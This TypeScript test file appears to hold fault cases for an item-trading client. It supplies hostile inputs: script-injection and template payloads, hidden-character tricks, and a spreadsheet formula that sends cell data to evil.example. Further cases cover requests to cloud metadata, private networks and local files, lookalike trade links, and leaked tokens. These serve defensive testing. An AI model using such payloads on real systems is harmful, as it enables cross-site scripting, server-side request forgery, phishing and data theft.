import {
  accepted,
  type Fault,
  type FaultRow,
  fails,
  failure,
  faults,
  faultyRow,
  type Observation,
  shows,
} from './fault.ts';
import {
  type Act,
  changes,
  changesFields,
  type Exchange,
  given,
  healthyRows,
  onRows,
  refuses,
  replies,
  sends,
  sendsUnder,
} from './responses.ts';

const allRows = { kind: 'response', rows: healthyRows } as const;
const allShown: Fault['expects'] = { list: allRows, item: { kind: 'response' } };
const message = { text: '<b onclick=x>\u202eno</b>', shown: '<b onclick=x>⟨U+202E⟩no</b>' };
const marks = '\u0301\u0352\u033f';

/** Text that tries to be markup, code or layout. `shown`: what is on screen, with hidden characters made visible. */
const texts: { name: string; text: string; shown?: string }[] = [
  { name: 'an image with a handler', text: '<img src=x onerror="window.hacked=1">' },
  { name: 'a script', text: '</script><script>window.hacked=1</script>' },
  { name: 'a frame', text: '<iframe srcdoc="<script>top.hacked=1</script>"></iframe>' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text under test.
  { name: 'templates', text: '${7*7} {{7*7}} #{7*7} <%= 7*7 %>' },
  { name: 'markdown', text: '[click](javascript:window.hacked=1) **bold** `code`' },
  { name: 'entities', text: '&lt;b&gt;&#x202E;&amp;' },
  { name: 'right-to-left override', text: 'AK\u202egpj.exe', shown: 'AK⟨U+202E⟩gpj.exe' },
  { name: 'isolates', text: 'A\u2066B\u2069C', shown: 'A⟨U+2066⟩B⟨U+2069⟩C' },
  { name: 'zero-width', text: 'Red\u200bline\ufeff', shown: 'Red⟨U+200B⟩line⟨U+FEFF⟩' },
  { name: 'new lines and tabs', text: 'one\r\ntwo\tthree', shown: 'one⟨U+000D⟩⟨U+000A⟩two⟨U+0009⟩three' },
  { name: 'NUL and escape', text: 'a\u0000b\u001b[31mc', shown: 'a⟨U+0000⟩b⟨U+001B⟩[31mc' },
  { name: 'a formula', text: '=HYPERLINK("http://evil.example/?x="&A1;"Click")' },
  { name: 'stacked marks', text: `Z${marks.repeat(40)}`, shown: `Z${marks.repeat(3).slice(0, 8)}…` },
  { name: 'Arabic beside Latin', text: 'سكين AK-47' },
];

/** Texts of about 200 KB each, which a browser needs seconds or minutes to lay out in full. */
export const costlyTexts: { name: string; text: string }[] = [
  { name: 'marks on one character', text: `Z${marks.repeat(33_000)}` },
  { name: 'marks in changing order', text: `Z${'\u0301\u0316'.repeat(50_000)}` },
  { name: 'a joined script without a break', text: 'سكين'.repeat(25_000) },
  { name: 'both directions in turn', text: 'سa'.repeat(60_000) },
  { name: 'a chain of joined emoji', text: `👩${'\u200d👩'.repeat(28_000)}` },
  { name: 'Thai', text: 'กี่'.repeat(20_000) },
  { name: 'a word without a break', text: 'W'.repeat(200_000) },
  { name: 'line breaks', text: '\n'.repeat(50_000) },
  { name: 'tabs', text: '\t'.repeat(50_000) },
];

export const hostileText = faults('Hostile text', [
  ...texts.map(({ name, text, shown = text }): FaultRow => {
    const observation: Observation = { kind: 'text', field: 'name', text, shown };
    const expects = { list: { ...allRows, observation }, item: shows(observation) };
    return [name, changesFields({ name: text }, faultyRow), expects];
  }),
  ...costlyTexts.map(({ name, text }): FaultRow => [`endless: ${name}`, overlong(text), allShown]),
  ['an empty name', changesFields({ name: '' }, faultyRow), allShown],
  [
    'an error message of the service',
    changesFields({ error_message: message.text, error_date: '2024-05-06 07:08:09' }),
    { item: shows({ kind: 'text', field: 'error_message', ...message }) },
  ],
]);

/** In every place where the service's text is shown, except those that identify the response. */
function overlong(text: string): Act {
  return changes((good) => {
    const rest = good.pagination ? {} : { status: text, error_message: text };
    const everywhere = onRows(good, (fields) => ({ ...fields, market_hash_name: text, ...rest }));
    return onRows(everywhere, (fields) => ({ ...fields, name: text }), faultyRow);
  });
}

const noPictures = { kind: 'response', observation: { kind: 'no-pictures' } } as const;

const images: Record<string, (exchange: Exchange) => string> = {
  'on loopback by http': ({ otherOrigin }) => `${otherOrigin}/picture.png`,
  'on loopback by https': ({ otherOrigin }) => `${otherOrigin.replace('http:', 'https:')}/picture.png`,
  'on localhost': ({ otherOrigin }) =>
    `${otherOrigin.replace('127.0.0.1', 'localhost').replace('http:', 'https:')}/p.png`,
  'at the catalog itself': ({ ownOrigin, token }) => `${ownOrigin}/v1/items?t=${token}`,
  'with a number for a host': ({ otherOrigin }) =>
    otherOrigin.replace('http://127.0.0.1', 'https://2130706433'),
  'with an IPv6 host': ({ otherOrigin }) =>
    otherOrigin.replace('http://127.0.0.1', 'https://[::ffff:127.0.0.1]'),
  'of a private network': () => 'https://192.168.0.1/picture.png',
  'of cloud metadata': () => 'https://169.254.169.254/latest/meta-data/',
  'as a file': () => 'file:///etc/hosts',
  'as data': () => 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1"/>',
  'as a script': () => 'javascript:window.hacked=1',
  'with userinfo': ({ otherOrigin }) => otherOrigin.replace('http://', 'https://pictures.example@'),
  'of our own scheme': () => 'item-image://picture/forged',
  'of the app': () => 'app://bundle/index.html',
  'that is no URL': () => '::::',
  'of 10,000 characters': () => `https://127.0.0.1/${'a'.repeat(10_000)}`,
};

const closedUrl = { item: shows({ kind: 'closed-trade-url' }) };

const addresses: Record<string, string> = {
  'a script': 'javascript:window.hacked=1',
  'another host': 'https://evil.example/tradeoffer/new/?partner=1&token=x',
  'a host that looks alike': 'https://steamcommunity.com.evil.example/tradeoffer/new/?partner=1&token=x',
  userinfo: 'https://steamcommunity.com@evil.example/tradeoffer/new/?partner=1&token=x',
  'plain http': 'http://steamcommunity.com/tradeoffer/new/?partner=1&token=x',
  'a file': 'file:///etc/hosts',
  'a share': '\\\\evil.example\\share',
  'a Windows handler': 'ms-msdt:/id PCWDiagnostic',
  'a line end': 'https://steamcommunity.com/tradeoffer/new/?partner=1\n&token=x',
  '10,000 characters': `https://steamcommunity.com/tradeoffer/new/?partner=1&token=${'x'.repeat(10_000)}`,
  nothing: '',
};

export const hostileLinks = faults('Hostile links', [
  // None may be requested; a placeholder is shown instead.
  ...Object.entries(images).map(
    ([name, image]): FaultRow => [
      `picture ${name}`,
      changesFields((exchange) => ({ image: image(exchange) })),
      { list: { ...noPictures, rows: healthyRows }, item: noPictures },
      { maxRequests: 1 },
    ],
  ),
  ...Object.entries(addresses).map(
    ([name, trade_url]): FaultRow => [`trade URL: ${name}`, changesFields({ trade_url }), closedUrl],
  ),
]);

const notAllowed: Fault['expects'] = {
  list: { kind: 'filter-messages', texts: ['is not allowed'] },
  item: failure('IC-HTTP-422'),
};

/** Forms in which a service may send back the token that it was sent. */
const forms: Record<string, (token: string) => string> = {
  'as it is': (token) => token,
  'as a header': (token) => `Authorization: Bearer ${token}`,
  'percent-encoded': encodeURIComponent,
  base64: (token) => Buffer.from(token).toString('base64'),
  'base64 of a header': (token) => Buffer.from(`Bearer ${token}`).toString('base64'),
  hex: (token) => Buffer.from(token).toString('hex'),
};

/** The catalog knows the token and may repeat it anywhere; page, log and files must not contain it. */
export const echoes = faults('Token repeated', [
  ...Object.entries(forms).map(([name, form]): FaultRow => [`in names, ${name}`, repeats(form), accepted]),
  [
    'in names, escaped for JSON',
    given(({ token }) => sends((good) => good.replaceAll('Redline', escapedForJson(token)))),
    accepted,
  ],
  ['as a field name', changesFields(({ token }) => ({ market_hash_name: 'x', [token]: 'x' })), accepted],
  ['in a row that is set aside', changesFields(({ token }) => ({ price: [token] }), faultyRow), accepted],
  [
    'in a filter message',
    given(({ token }) => refuses(422, { 'filter[name]': [`Bearer ${token} is not allowed`] })),
    notAllowed,
  ],
  [
    'as a filter',
    given(({ token }) => refuses(422, { [`filter[${token}]`]: ['is not allowed'] })),
    notAllowed,
  ],
  ['in a 500', given(({ token }) => replies(500, token)), fails('IC-HTTP-500')],
  ['in a 401', given(({ token }) => refuses(401, {}, { 'www-authenticate': token })), fails('IC-HTTP-401')],
  [
    'in the status line',
    ({ token, end }) => end(`HTTP/1.1 418 ${token}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`),
    fails('IC-HTTP-418'),
  ],
  ['as a cookie', given(({ token }) => sendsUnder({ 'set-cookie': `t=${token}; Max-Age=999999` })), accepted],
  ['as a web page', given(({ token }) => replies(200, `<h1>${token}</h1>`)), fails('IC-ANSWER-WEB-PAGE')],
  ['in place of HTTP', ({ token, end }) => end(`${token}\r\n\r\n`), fails('IC-ANSWER-OTHER-CONTENT')],
]).map((fault): Fault => ({ ...fault, repeatsToken: true }));

/** Puts a form of the token into every market name and into one more field. */
function repeats(form: (token: string) => string): Act {
  return changesFields(({ token }) => ({ market_hash_name: form(token), extra: form(token) }));
}

function escapedForJson(token: string): string {
  return token.replace(/./g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`);
}
